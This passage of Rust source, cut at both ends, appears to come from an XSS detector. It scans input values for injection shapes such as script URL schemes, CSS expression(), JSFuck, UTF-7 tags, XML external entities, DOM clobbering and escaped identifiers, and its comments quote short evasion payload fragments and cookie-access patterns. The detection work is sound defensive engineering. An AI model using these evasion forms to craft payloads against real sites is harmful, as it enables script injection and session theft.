        let rest = &lower[j..(j + 12).min(lower.len())];
        if rest.starts_with(b"javascript") || rest.starts_with(b"vbscript") {
            hit(hits, CSS, base, u, j + rest.len().min(10));
        }
    }
    for e in memchr::memmem::find_iter(&lower, b"expression") {
        let mut j = e + 10;
        while j < lower.len() && lower[j].is_ascii_whitespace() {
            j += 1;
        }
        let mut p = e;
        while p > 0 && lower[p - 1].is_ascii_whitespace() {
            p -= 1;
        }
        if lower.get(j) == Some(&b'(') && p > 0 && lower[p - 1] == b':' {
            hit(hits, CSS, base, e, j + 1);
        }
    }
}

/// `-moz-binding` (an XBL binding that runs script), without allocating.
fn moz_binding(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    for p in memchr::memchr_iter(b'-', b) {
        if b.len() >= p + 12 && b[p + 1..p + 12].eq_ignore_ascii_case(b"moz-binding") {
            hit(hits, CSS, base, p, p + 12);
            return;
        }
    }
}

/// JSFuck (`[][(![]+[])[+[]]...]`): code written with six characters.
fn jsfuck(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    if b.len() < 5 || memchr::memmem::find(b, b"![]").is_none() {
        return;
    }
    let fuck = b
        .iter()
        .filter(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '))
        .count();
    if fuck * 10 >= b.len() * 9 {
        hit(hits, JS, base, 0, b.len());
    }
}

/// UTF-7 `+ADw-script+AD4-` (`<script>`), for pages served without a charset.
fn utf7(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    for p in memchr::memmem::find_iter(b, b"ADw-") {
        let mut j = p + 4;
        while j < b.len() && b[j] == b' ' {
            j += 1;
        }
        let len = b[j..]
            .iter()
            .take(16)
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        let name = &b[j..j + len];
        if lower_eq(name, b"script") || EMBEDDING.iter().any(|t| lower_eq(name, t)) {
            hit(hits, SCRIPT, base, p.saturating_sub(1), j + name.len());
        }
    }
}

// Byte classes: which analyses a value needs. A value holding none of
// these bytes cannot carry any shape below and is skipped after one pass.
const C_LT: u16 = 1; // `<`: tags
const C_EQ: u16 = 1 << 1; // `=`: injected attributes, `location=`
const C_COLON: u16 = 1 << 2; // `:`: URL schemes
const C_CALL: u16 = 1 << 3; // `(` and `` ` ``: calls, CSS functions
const C_BRACE: u16 = 1 << 4; // `{`, `$`: templates
const C_MEMBER: u16 = 1 << 5; // `.`, `[`: member access
const C_BANG: u16 = 1 << 6; // `!`: JSFuck, `<!ENTITY`
const C_DASH: u16 = 1 << 7; // `-`: `-->`, `-moz-binding`, UTF-7 `+ADw-`
const C_SLASH: u16 = 1 << 8; // `/`: JS comments
const C_ESC: u16 = 1 << 9; // `\` and U+00BC's lead byte: high-bit brackets
const C_SPACE: u16 = 1 << 10; // whitespace (only refines the others)

static CLASS: [u16; 256] = {
    let mut t = [0u16; 256];
    t[b'<' as usize] = C_LT;
    t[b'=' as usize] = C_EQ;
    t[b':' as usize] = C_COLON;
    t[b'(' as usize] = C_CALL;
    t[b'`' as usize] = C_CALL;
    t[b'{' as usize] = C_BRACE;
    t[b'$' as usize] = C_BRACE;
    t[b'.' as usize] = C_MEMBER;
    t[b'[' as usize] = C_MEMBER;
    t[b'!' as usize] = C_BANG;
    t[b'-' as usize] = C_DASH;
    t[b'/' as usize] = C_SLASH;
    t[b'\\' as usize] = C_ESC;
    t[0xC2] = C_ESC;
    t[b' ' as usize] = C_SPACE;
    t[b'\t' as usize] = C_SPACE;
    t[b'\n' as usize] = C_SPACE;
    t[b'\r' as usize] = C_SPACE;
    t[0x0C] = C_SPACE;
    t
};

fn classes(b: &[u8]) -> u16 {
    b.iter().fold(0, |m, &c| m | CLASS[c as usize])
}

static IDENT: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = b.is_ascii_alphanumeric() || b == b'_' || b == b'$';
        c += 1;
    }
    t
};

fn is_ident(c: u8) -> bool {
    IDENT[c as usize]
}

/// Longer than every name the checks compare identifiers with.
const MAX_NAME: usize = 13;

/// The identifier ending at `p` (after skipping up to 8 spaces back), cut
/// to `MAX_NAME` bytes: longer ones match no sink name anyway.
fn ident_before(b: &[u8], p: usize) -> (&[u8], usize) {
    let mut e = p;
    while e > 0 && p - e < 8 && b[e - 1].is_ascii_whitespace() {
        e -= 1;
    }
    let mut s = e;
    while s > 0 && e - s < MAX_NAME && is_ident(b[s - 1]) {
        s -= 1;
    }
    (&b[s..e], s)
}

/// The identifier starting at `p`, cut to 24 bytes.
fn ident_after(b: &[u8], p: usize) -> &[u8] {
    let mut e = p;
    while e < b.len() && e - p < 24 && is_ident(b[e]) {
        e += 1;
    }
    &b[p..e]
}

fn one_of(word: &[u8], set: &[&[u8]]) -> bool {
    word.len() >= 3 && set.iter().any(|w| lower_eq(word, w))
}

/// Names that only matter when called.
const CALLED: &[&[u8]] = &[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"function",
    b"atob",
    b"fetch",
    b"import",
    b"print",
    b"btoa",
    b"globaleval",
    b"fromcharcode",
];
/// Sinks that run when passed to a caller (`[1].map(alert)`).
const PASSED: &[&[u8]] = &[b"alert", b"eval", b"confirm"];
/// Objects whose members are sinks.
const OBJECTS: &[&[u8]] = &[
    b"document",
    b"window",
    b"location",
    b"self",
    b"top",
    b"globalthis",
    b"string",
];
/// Members that are sinks on any object.
const MEMBERS: &[&[u8]] = &[b"innerhtml", b"outerhtml", b"fromcharcode"];

/// A necessary condition for `js_injection` to find anything: a sink name
/// next to the byte that makes it one (`alert(`, `document.`, `window[`,
/// `location=`, `${`). Checks only around those bytes, without allocating.
fn sink_candidate(b: &[u8], m: u16) -> bool {
    if m & C_CALL != 0 {
        for p in memchr::memchr2_iter(b'(', b'`', b) {
            let id = ident_before(b, p).0;
            if one_of(id, CALLED)
                || lower_eq(id, b"constructor")
                || one_of(ident_after(b, p + 1), PASSED)
            {
                return true;
            }
        }
    }
    if m & C_BRACE != 0 && memchr::memmem::find(b, b"${").is_some() {
        return true;
    }
    if m & (C_MEMBER | C_EQ) != 0 {
        for p in memchr::memchr3_iter(b'.', b'[', b'=', b) {
            let before = ident_before(b, p).0;
            match b[p] {
                b'.' => {
                    if one_of(before, OBJECTS) || one_of(ident_after(b, p + 1), MEMBERS) {
                        return true;
                    }
                }
                b'[' => {
                    if one_of(before, OBJECTS) {
                        return true;
                    }
                }
                _ => {
                    if lower_eq(before, b"location") {
                        return true;
                    }
                }
            }
        }
    }
    false
}

/// Whether JavaScript spacing or comments could be hiding a sink:
/// `document /**/ . cookie`, `(document)["cookie"]`, `self [ "alert" ]`.
fn needs_compaction(b: &[u8], m: u16) -> bool {
    if m & C_SLASH != 0 && memchr::memmem::find(b, b"/*").is_some() {
        return true;
    }
    if m & C_MEMBER == 0 {
        return false;
    }
    for p in memchr::memchr2_iter(b'.', b'[', b) {
        let prev = if p > 0 { b[p - 1] } else { 0 };
        let next = b.get(p + 1).copied().unwrap_or(0);
        // `document . cookie`: a member access spread over blanks. A lone
        // dot among arguments (`find . -name`) has no name after it.
        let name_after = || {
            b[p + 1..]
                .iter()
                .take(8)
                .find(|c| !c.is_ascii_whitespace())
                .is_some_and(|&c| is_ident(c))
        };
        let spaced = prev.is_ascii_whitespace()
            && (is_ident(next) || next.is_ascii_whitespace() && name_after());
        let quoted = b[p] == b'[' && matches!(next, b'"' | b'\'' | b' ');
        let wrapped = prev == b')';
        if spaced || quoted || wrapped {
            return true;
        }
    }
    false
}

/// JavaScript with comments dropped, spacing kept only between words,
/// `["name"]` turned into `.name` and `(name)` into `name`; bounded.
fn compact_js(b: &[u8]) -> Vec<u8> {
    let lim = b.len().min(4096);
    let mut out = Vec::with_capacity(lim);
    let mut i = 0;
    let mut pending_space = false;
    while i < lim {
        let c = b[i];
        if c == b'/' && b.get(i + 1) == Some(&b'*') {
            i = memchr::memmem::find(&b[i + 2..lim], b"*/").map_or(lim, |o| i + 2 + o + 2);
            pending_space = true;
            continue;
        }
        if c.is_ascii_whitespace() {
            pending_space = true;
            i += 1;
            continue;
        }
        if pending_space && out.last().is_some_and(|&l| is_ident(l)) && is_ident(c) {
            out.push(b' ');
        }
        pending_space = false;
        out.push(c);
        i += 1;
        // `["name"]` / `['name']` -> `.name`
        let n = out.len();
        if n >= 4 && out[n - 1] == b']' && matches!(out[n - 2], b'"' | b'\'') {
            let q = out[n - 2];
            // Names are short: look back a bounded distance, so a run of
            // `"]` stays linear.
            let from = (n - 2).saturating_sub(MAX_NAME + 1);
            if let Some(open) = out[from..n - 2]
                .iter()
                .rposition(|&x| x == q)
                .map(|o| from + o)
                && open >= 1
                && out[open - 1] == b'['
                && open + 1 < n - 2
                && out[open + 1..n - 2].iter().all(|&x| is_ident(x))
            {
                let name: Vec<u8> = out[open + 1..n - 2].to_vec();
                out.truncate(open - 1);
                out.push(b'.');
                out.extend_from_slice(&name);
            }
        }
        // `(name)` followed by `.` or `[` -> `name`
        let n = out.len();
        let from = n.saturating_sub(MAX_NAME + 3);
        if n >= 2
            && matches!(out[n - 1], b'.' | b'[')
            && out[n - 2] == b')'
            && let Some(open) = out[from..n - 2]
                .iter()
                .rposition(|&x| !is_ident(x))
                .map(|o| from + o)
            && out[open] == b'('
            && open + 1 < n - 2
        {
            let tail = out[n - 1];
            let name: Vec<u8> = out[open + 1..n - 2].to_vec();
            out.truncate(open);
            out.extend_from_slice(&name);
            out.push(tail);
        }
    }
    out
}

/// A whole value that is a DOM statement: `document.body.appendChild(...)`,
/// `document.querySelector("p").textContent="x"`, `window.name=...`.
/// Length of the parameter-name characters at the start of `b`.
fn form_name_len(b: &[u8]) -> usize {
    b.iter()
        .take(64)
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'[' | b']'))
        .count()
}

fn dom_statement(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let s = b.iter().take_while(|c| c.is_ascii_whitespace()).count();
    // `foo=document.x(...)`: a form body the engine could not split.
    let n = form_name_len(&b[s..]);
    if n > 0 && b.get(s + n) == Some(&b'=') {
        let before = hits.len();
        dom_statement_at(b, s + n + 1, base, hits);
        if hits.len() > before {
            return;
        }
    }
    dom_statement_at(b, s, base, hits);
}

fn dom_statement_at(b: &[u8], s: usize, base: usize, hits: &mut Vec<Hit>) {
    let mut j = s;
    let head = ident_after(b, j);
    if !(lower_eq(head, b"document") || lower_eq(head, b"window")) {
        return;
    }
    j += head.len();
    let mut parts = 0;
    while j < b.len() && b[j] == b'.' {
        let id = ident_after(b, j + 1);
        if id.is_empty() || id[0].is_ascii_digit() {
            return;
        }
        j += 1 + id.len();
        parts += 1;
    }
    while j < b.len() && b[j].is_ascii_whitespace() {
        j += 1;
    }
    let call = b.get(j) == Some(&b'(');
    let assign = b.get(j) == Some(&b'=') && b.get(j + 1) != Some(&b'=');
    if assign && same_site_literal(&b[j + 1..]) {
        return;
    }
    if parts > 0 && (call || assign) && !ordinary_dom(&b[s..]) {
        let end = (j + 64).min(b.len());
        let mut e = end;
        while !seg_boundary(b, e) {
            e -= 1;
        }
        hit(hits, JS, base, s, e.max(j));
    }
}

/// Page code that finds elements, listens for events or writes text from
/// the program's own variables: `window.addEventListener('load', () =>
/// init(x))`, `document.querySelector('#t').textContent = format(total);`.
/// No sink, no method outside a read-only few, no URL or markup, and no
/// string literal written into the page (`.textContent="XSS"` defaces).
fn ordinary_dom(v: &[u8]) -> bool {
    const METHODS: &[&[u8]] = &[
        b"addeventlistener",
        b"removeeventlistener",
        b"queryselector",
        b"queryselectorall",
        b"getelementbyid",
        b"getelementsbyclassname",
        b"getelementsbytagname",
    ];
    const WRITTEN: &[&[u8]] = &[b"textcontent", b"innertext", b"classname", b"value"];
    if v.len() > 256 || sinks().find(v).is_some() {
        return false;
    }
    if v.iter()
        .any(|c| matches!(c, b'<' | b':' | b'\\' | b'`' | b'[' | b'{') || !c.is_ascii())
    {
        return false;
    }
    // Every method called on an object is a read-only or listener one.
    // Method names run longer than `ident_before` reads.
    let name_before = |p: usize| {
        let n = v[..p]
            .iter()
            .rev()
            .take(32)
            .take_while(|c| is_ident(**c))
            .count();
        (&v[p - n..p], p - n)
    };
    // What is computed on the right of a text write only makes the text
    // (`new Date().getFullYear()`, `total.toFixed(2)`), unless it touches
    // the page or the network.
    const ACTS: &[&[u8]] = &[
        b"appendchild",
        b"append",
        b"prepend",
        b"insertbefore",
        b"insertadjacenthtml",
        b"insertadjacentelement",
        b"replacewith",
        b"replacechildren",
        b"setattribute",
        b"createelement",
        b"sendbeacon",
        b"open",
        b"send",
        b"postmessage",
        b"importscripts",
        b"write",
        b"writeln",
        b"assign",
        b"replace",
        b"submit",
        b"click",
    ];
    let rhs_from = memchr::memchr(b'=', v).unwrap_or(v.len());
    for p in memchr::memchr_iter(b'(', v) {
        let (id, is) = name_before(p);
        let allowed = if p > rhs_from {
            !one_of(id, ACTS)
        } else {
            one_of(id, METHODS)
        };
        if !id.is_empty() && is > 0 && v[is - 1] == b'.' && !allowed {
            return false;
        }
    }
    // Every assignment writes text, from something other than a literal.
    for p in memchr::memchr_iter(b'=', v) {
        if matches!(v.get(p + 1), Some(b'=' | b'>'))
            || (p > 0 && matches!(v[p - 1], b'=' | b'!' | b'<' | b'>'))
        {
            continue;
        }
        let mut q = p;
        while q > 0 && v[q - 1].is_ascii_whitespace() {
            q -= 1;
        }
        let (id, _) = name_before(q);
        if !one_of(id, WRITTEN) {
            return false;
        }
        // A number written as text defaces nothing (`.value = 5`).
        let rhs = v[p + 1..].trim_ascii_start();
        let number = rhs.first().is_some_and(u8::is_ascii_digit)
            && rhs
                .iter()
                .take_while(|c| !matches!(c, b';' | b'\n'))
                .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b' '));
        if !number
            && rhs
                .first()
                .is_none_or(|c| !(c.is_ascii_alphabetic() || *c == b'_' || *c == b'$'))
        {
            return false;
        }
    }
    true
}

fn seg_boundary(b: &[u8], i: usize) -> bool {
    i == 0 || i >= b.len() || (b[i] & 0xC0) != 0x80
}

/// `fn.call`...``, `Reflect.apply.call`...``: a function invoked through a
/// tagged template, a way to call without parentheses.
fn tagged_call(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    for p in memchr::memchr_iter(b'`', b) {
        let (id, s) = ident_before(b, p);
        if (lower_eq(id, b"call") || lower_eq(id, b"apply")) && s > 0 && b[s - 1] == b'.' {
            hit(hits, JS, base, s - 1, p + 1);
        }
    }
}

/// `-->` (or `--!>`) as a whole value: closing the HTML comment the value
/// is reflected into, so that what follows is markup.
fn comment_close(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let s = b.iter().take_while(|c| c.is_ascii_whitespace()).count();
    let t = &b[s..];
    let len = if t.starts_with(b"-->") {
        3
    } else if t.starts_with(b"--!>") {
        4
    } else {
        return;
    };
    let rest = &t[len..];
    let r = rest.iter().take_while(|c| c.is_ascii_whitespace()).count();
    // What follows the closed comment is markup, an attribute's end quote
    // or the end of a cookie or parameter name: not "--> next step".
    if r == rest.len() || matches!(rest[r], b'<' | b'"' | b'\'' | b'=' | b'>') {
        hit(hits, BREAKOUT, base, s, s + len);
    }
}

/// `<!ENTITY x SYSTEM "http://...">`: an XML external entity, which pulls
/// outside content into the document.
fn external_entity(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut budget = 16;
    for p in memchr::memchr_iter(b'!', b) {
        let name = ident_after(b, p + 1);
        if !lower_eq(name, b"entity") {
            continue;
        }
        if budget == 0 {
            break;
        }
        budget -= 1;
        let from = p + 1 + name.len();
        let lim = (from + 160).min(b.len());
        let mut k = from;
        while k < lim {
            let w = ident_after(b, k);
            if w.is_empty() {
                k += 1;
                continue;
            }
            if w == b"SYSTEM" || w == b"PUBLIC" {
                hit(hits, TAG, base, p, k + w.len());
                break;
            }
            k += w.len();
        }
    }
}

/// `\xbcscript\xbe...\xbc/script\xbe`: angle brackets with the high bit
/// set, which some servers and old browsers read as plain `<` and `>`
/// (written as escapes or as `¼`/`¾`). An element opened and closed this way.
fn high_bit_tags(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    // The opening marker: `\xbc` or `¼` (C2 BC).
    let open_at = |i: usize| -> usize {
        if b.len() >= i + 4 && b[i] == b'\\' && b[i + 1..i + 4].eq_ignore_ascii_case(b"xbc") {
            4
        } else if b.len() >= i + 2 && b[i] == 0xC2 && b[i + 1] == 0xBC {
            2
        } else {
            0
        }
    };
    let mut i = 0;
    // Each opening looks a bounded distance ahead for its closing; a few
    // are enough for any real payload and keep a run of openings linear.
    let mut budget = 16;
    while i < b.len() && budget > 0 {
        let o = open_at(i);
        if o == 0 {
            i += 1;
            continue;
        }
        budget -= 1;
        let name_at = i + o;
        let name = &b[name_at..][..b[name_at..]
            .iter()
            .take(16)
            .take_while(|c| c.is_ascii_alphabetic())
            .count()];
        let after = name_at + name.len();
        let closed_marker = b.get(after) == Some(&b'\\') || b.get(after) == Some(&0xC2);
        if !name.is_empty() && closed_marker {
            // Look for the closing marker followed by `/name`, bounded.
            let lim = (after + 512).min(b.len());
            let mut k = after;
            let mut found = None;
            while k < lim {
                let o2 = open_at(k);
                if o2 > 0 && b.get(k + o2) == Some(&b'/') {
                    let n2 = k + o2 + 1;
                    if b.len() >= n2 + name.len()
                        && b[n2..n2 + name.len()].eq_ignore_ascii_case(name)
                    {
                        found = Some(n2 + name.len());
                        break;
                    }
                }
                k += 1;
            }
            if let Some(end) = found {
                let r = if lower_eq(name, b"script") {
                    SCRIPT
                } else {
                    TAG
                };
                hit(hits, r, base, i, end);
                i = end;
                continue;
            }
        }
        i = after.max(i + 1);
    }
}

/// DOM clobbering: `<form id=config><input name=apiBase value=//x>` makes
/// `config.apiBase` (or `window.config.apiBase`) the attacker's URL for any
/// script that reads it. A form with an id, no action of its own, and a
/// named field inside it whose value or link is an absolute URL.
fn dom_clobbering(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut form: Option<usize> = None;
    let mut budget = 64;
    for lt in memchr::memchr_iter(b'<', b) {
        if budget == 0 {
            return;
        }
        budget -= 1;
        let closing = b.get(lt + 1) == Some(&b'/');
        let ns = lt + 1 + usize::from(closing);
        let ne = ns
            + b[ns..]
                .iter()
                .take(16)
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
        let name = &b[ns..ne];
        if name.is_empty() {
            continue;
        }
        let end = memchr::memchr2(b'>', b'<', &b[ne..]).map_or(b.len(), |o| ne + o);
        if lower_eq(name, b"form") {
            if closing {
                form = None;
                continue;
            }
            let (mut id, mut action) = (false, false);
            attributes(b, ne, end, |a| {
                let an = &b[a.name.0..a.name.1];
                id |= (lower_eq(an, b"id") || lower_eq(an, b"name")) && a.value.is_some();
                action |= lower_eq(an, b"action") || lower_eq(an, b"method");
            });
            form = (id && !action).then_some(lt);
            continue;
        }
        let Some(f) = form else { continue };
        if closing {
            continue;
        }
        let (mut named, mut url) = (false, None);
        attributes(b, ne, end, |a| {
            let an = &b[a.name.0..a.name.1];
            named |= (lower_eq(an, b"name") || lower_eq(an, b"id")) && a.value.is_some();
            if let Some((vs, ve)) = a.value
                && (lower_eq(an, b"value") || lower_eq(an, b"href") || lower_eq(an, b"src"))
            {
                let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
                if v.starts_with(b"//")
                    || memchr::memmem::find(&v, b"://")
                        .is_some_and(|p| p > 0 && v[..p].iter().all(u8::is_ascii_alphabetic))
                {
                    url = Some(ve);
                }
            }
        });
        if let (true, Some(ve)) = (named, url) {
            hit(hits, CLOBBER, base, f, ve.max(f));
            return;
        }
    }
}

/// A PDF JavaScript action: `/JS (app.launchURL\(...\))`, `/JS <hex>`,
/// `/S /JavaScript`. PDF names are case-sensitive.
fn pdf_action(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    for p in memchr::memmem::find_iter(b, b"/JS") {
        if p > 0 && b[p - 1].is_ascii_alphanumeric() {
            continue;
        }
        let after = &b[p + 3..];
        if after.starts_with(b"avaScript") {
            // `/S /JavaScript`: the action type itself.
            let before = b[..p].trim_ascii_end();
            if before.ends_with(b"/S") {
                hit(hits, PDF, base, before.len() - 2, p + 12);
                return;
            }
            continue;
        }
        let k = after
            .iter()
            .take(4)
            .take_while(|c| c.is_ascii_whitespace())
            .count();
        let body = &after[k..];
        let code = match body.first() {
            // A literal string with a call inside: `(app.alert\(1\))`.
            Some(b'(') => {
                let lim = body.len().min(512);
                body[1..lim].windows(2).any(|w| w == b"\\(")
                    || body[1..lim]
                        .windows(2)
                        .any(|w| is_ident(w[0]) && w[1] == b'(')
            }
            // A hex string or an indirect reference to a stream.
            Some(b'<') => body.get(1).is_some_and(u8::is_ascii_hexdigit),
            _ => false,
        };
        if code {
            let e = p
                + 3
                + k
                + body
                    .iter()
                    .take(512)
                    .position(|&c| c == b'\n')
                    .unwrap_or(body.len().min(512));
            hit(hits, PDF, base, p, e);
            return;
        }
    }
}

/// The checks for one value. `tags` is false inside an attribute value,
/// which the tag scanner has already cut at the next `<`.
fn analyse(b: &[u8], base: usize, hits: &mut Vec<Hit>, tags: bool) {
    if b.len() < 3 {
        return;
    }
    let m = classes(b);
    if m & !C_SPACE == 0 {
        return;
    }
    if tags && m & C_LT != 0 {
        let mut i = 0;
        while let Some(off) = memchr::memchr(b'<', &b[i..]) {
            let lt = i + off;
            let next = b.get(lt + 1).copied().unwrap_or(0);
            if let Some(e) = spaced_tag(b, lt) {
                hit(hits, TAG, base, lt, e);
                i = e;
                continue;
            }
            let opens = next.is_ascii_alphabetic()
                || (matches!(next, b'?' | b':')
                    && b.get(lt + 2).is_some_and(u8::is_ascii_alphabetic));
            i = if opens {
                tag(b, lt, base, hits)
            } else {
                lt + 1
            };
        }
    }
    if tags && m & C_LT != 0 && m & C_EQ != 0 {
        dom_clobbering(b, base, hits);
        credential_form(b, base, hits);
    }
    if m & C_SLASH != 0 && memchr::memmem::find(b, b"/JS").is_some() {
        pdf_action(b, base, hits);
    }
    if m & C_EQ != 0 {
        attribute_breakout(b, base, hits);
    }
    if m & C_COLON != 0 {
        bare_scheme(b, base, hits);
    }
    if m & C_BRACE != 0 && memchr::memmem::find(b, b"{{").is_some() {
        template(b, base, hits);
    }
    if m & (C_CALL | C_BRACE | C_MEMBER | C_EQ) != 0 && sink_candidate(b, m) {
        js_injection(b, base, hits);
    }
    if m & (C_MEMBER | C_SLASH) != 0 && needs_compaction(b, m) {
        let c = compact_js(b);
        let cm = classes(&c);
        if sink_candidate(&c, cm) {
            let mut inner = Vec::new();
            js_injection(&c, 0, &mut inner);
            dom_statement(&c, 0, &mut inner);
            if cm & C_CALL != 0 {
                tagged_call(&c, 0, &mut inner);
            }
            if !inner.is_empty() {
                hit(hits, JS, base, 0, b.len());
            }
        }
    }
    if m & C_MEMBER != 0 {
        dom_statement(b, base, hits);
    }
    if m & C_CALL != 0 {
        tagged_call(b, base, hits);
        bare_css(b, base, hits);
    } else if m & C_DASH != 0 {
        moz_binding(b, base, hits);
    }
    if m & C_BANG != 0 {
        jsfuck(b, base, hits);
        external_entity(b, base, hits);
    }
    if m & C_DASH != 0 {
        comment_close(b, base, hits);
        if memchr::memmem::find(b, b"ADw-").is_some() {
            utf7(b, base, hits);
        }
    }
    if m & C_ESC != 0 {
        high_bit_tags(b, base, hits);
        escaped_identifier(b, base, hits);
    }
}

/// The letter a JavaScript escape at `i` spells (`\u0076`, `\u{76}`) and
/// the escape's length. Only ASCII letters count: encoders escape control
/// characters, markup and non-ASCII text, never a plain letter.
fn letter_escape(b: &[u8], i: usize) -> Option<(u8, usize)> {
    if b.get(i) != Some(&b'\\') || b.get(i + 1) != Some(&b'u') {
        return None;
    }
    let hex = |s: &[u8]| -> Option<u32> {
        if s.is_empty() || s.len() > 6 || !s.iter().all(u8::is_ascii_hexdigit) {
            return None;
        }
        s.iter()
            .try_fold(0u32, |v, &c| Some(v * 16 + (c as char).to_digit(16)?))
    };
    let (v, len) = if b.get(i + 2) == Some(&b'{') {
        let close = memchr::memchr(b'}', b.get(i + 3..(i + 10).min(b.len()))?)?;
        (hex(&b[i + 3..i + 3 + close])?, close + 4)
    } else {
        (hex(b.get(i + 2..i + 6)?)?, 6)
    };
    let c = u8::try_from(v).ok()?;
    c.is_ascii_alphabetic().then_some((c, len))
}

/// An identifier spelled partly with escapes of plain letters
/// (`\u0076\u0061l\u0075e\u004F\u0066`): JavaScript accepts escapes in
/// names, and nothing but a filter-evasion writes letters that way.
fn escaped_identifier(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut k = 0;
    while let Some(off) = memchr::memmem::find(&b[k..], b"\\u") {
        let s = k + off;
        let (mut i, mut escapes) = (s, 0);
        loop {
            if let Some((_, len)) = letter_escape(b, i) {
                escapes += 1;
                i += len;
            } else if i < b.len() && is_ident(b[i]) {
                i += 1;
            } else {
                break;
            }
        }
        if escapes >= 2 {
            hit(hits, JS, base, s, i);
        }
        k = i.max(s + 2);
    }
}

/// Whether the byte at `p` starts something `analyse` reports. A necessary
/// condition for every check there, decided from a few neighbouring bytes,
/// so that values without any such byte are never looked at again.
fn trigger(b: &[u8], p: usize) -> bool {
    let at = |k: usize| b.get(p + k).copied().unwrap_or(0);
    match b[p] {
        b'<' => {
            let n = at(1);
            n.is_ascii_alphabetic()
                || (matches!(n, b'?' | b':') && at(2).is_ascii_alphabetic())
                || (n.is_ascii_whitespace() && spaced_tag(b, p).is_some())
        }
        b'=' => {
            let mut e = p;
            while e > 0 && p - e < 8 && b[e - 1].is_ascii_whitespace() {
                e -= 1;
            }
            let mut s = e;
            while s > 0 && e - s < 64 && b[s - 1].is_ascii_alphabetic() {
                s -= 1;
            }
            let name = &b[s..e];
            is_event_name(name) || one_of(name, &[b"formaction", b"srcdoc", b"location"])
        }
        b':' => dangerous_scheme(b, p).is_some(),
        b'(' | b'`' => {
            let id = ident_before(b, p).0;
            one_of(id, CALLED)
                || one_of(
                    id,
                    &[b"url", b"expression", b"call", b"apply", b"constructor"],
                )
                || (b[p] == b'(' && one_of(ident_after(b, p + 1), PASSED))
        }
        b'$' | b'{' => at(1) == b'{',
        b'.' | b'[' => member_trigger(b, p),
        b'!' => (at(1) == b'[' && at(2) == b']') || lower_eq(ident_after(b, p + 1), b"entity"),
        b'-' => {
            let rest = &b[p + 1..];
            rest.starts_with(b"->")
                || rest.starts_with(b"-!>")
                || (rest.len() >= 11 && rest[..11].eq_ignore_ascii_case(b"moz-binding"))
                || (p >= 3 && &b[p - 3..p] == b"ADw")
        }
        b'/' => at(1) == b'*' || (at(1) == b'J' && at(2) == b'S'),
        b'\\' => {
            (b.len() >= p + 4 && b[p + 1..p + 4].eq_ignore_ascii_case(b"xbc"))
                || (letter_escape(b, p).is_some_and(|(_, len)| {
                    letter_escape(b, p + len).is_some()
                        || b.get(p + len).is_some_and(|&c| is_ident(c))
                }))
        }
        0xC2 => at(1) == 0xBC,
        _ => false,
    }
}

/// `.` or `[` next to a sink object or member, also through spacing,
/// parentheses and quotes (`(document)["cookie"]`, `self [ "alert" ]`).
fn member_trigger(b: &[u8], p: usize) -> bool {
    let prev = if p > 0 { b[p - 1] } else { 0 };
    let next = b.get(p + 1).copied().unwrap_or(0);
    // A sentence's full stop: nothing on either side to look at.
    if !is_ident(next) && !matches!(next, b' ' | b'"' | b'\'' | b'\t' | b'\n') {
        return (is_ident(prev) || prev == b')' || prev.is_ascii_whitespace())
            && b[p] == b'['
            && one_of(ident_before(b, p).0, OBJECTS);
    }
    if one_of(ident_before(b, p).0, OBJECTS)
        && (b[p] == b'[' || next.is_ascii_alphabetic() || next.is_ascii_whitespace())
    {
        return true;
    }
    if p > 0 && b[p - 1] == b')' {
        let (id, s) = ident_before(b, p - 1);
        if s > 0 && b[s - 1] == b'(' && one_of(id, OBJECTS) {
            return true;
        }
    }
    let mut q = p + 1;
    while q < b.len() && q - p < 8 && (b[q].is_ascii_whitespace() || matches!(b[q], b'"' | b'\'')) {
        q += 1;
    }
    let after = ident_after(b, q);
    if after.len() < 3 {
        return false;
    }
    one_of(after, MEMBERS) || one_of(after, CALLED) || one_of(after, &[b"call", b"apply"])
}

/// Finds XSS in each NUL-separated value of `text`.
///
/// One search over the whole text for trigger bytes, a check of a few
/// bytes at each, and the full analysis only for the values where a check
/// fired: benign values cost no allocation and no per-value work.
pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
    let b = text.as_bytes();
    let mut fired = Vec::new();
    let mut done = 0;
    let mut from = 0;
    while from < b.len() {
        let to = (from + BLOCK).min(b.len());
        fired.clear();
        fire_positions(b, from.max(done), to, &mut fired);
        for &p in &fired {
            if p < done {
                continue;
            }
            // Each value is analysed once; the searches for its bounds
            // never go back past the previous value: linear overall.
            let start = memchr::memrchr(0, &b[done..p]).map_or(done, |o| done + o + 1);
            let end = memchr::memchr(0, &b[p..]).map_or(b.len(), |o| p + o);
            analyse(&b[start..end], start, hits, true);
            done = end;
        }
        from = to.max(done);
    }
}

/// Trigger bytes are searched a block at a time.
const BLOCK: usize = 4096;
/// More trigger bytes than this in a block and a plain table walk is
/// cheaper than restarting a SIMD search at each.
const DENSE: usize = BLOCK / 32;

/// The positions in `b[from..to]` where `trigger` fires, in order.
///
/// Prose has few trigger bytes, so one SIMD pass per group of them is
/// cheapest; a run of them (a megabyte of `<`) would restart the search at
/// every byte, so a dense block is walked byte by byte with a table instead.
fn fire_positions(b: &[u8], from: usize, to: usize, out: &mut Vec<usize>) {
    if from >= to {
        return;
    }
    if to - from <= SHORT {
        // A short value: one table walk costs less than starting the five
        // searches below, and finds the same positions in the same order.
        walk(b, from, to, out);
        return;
    }
    let block = &b[from..to];
    let mut seen = 0;
    let mut sparse = true;
    {
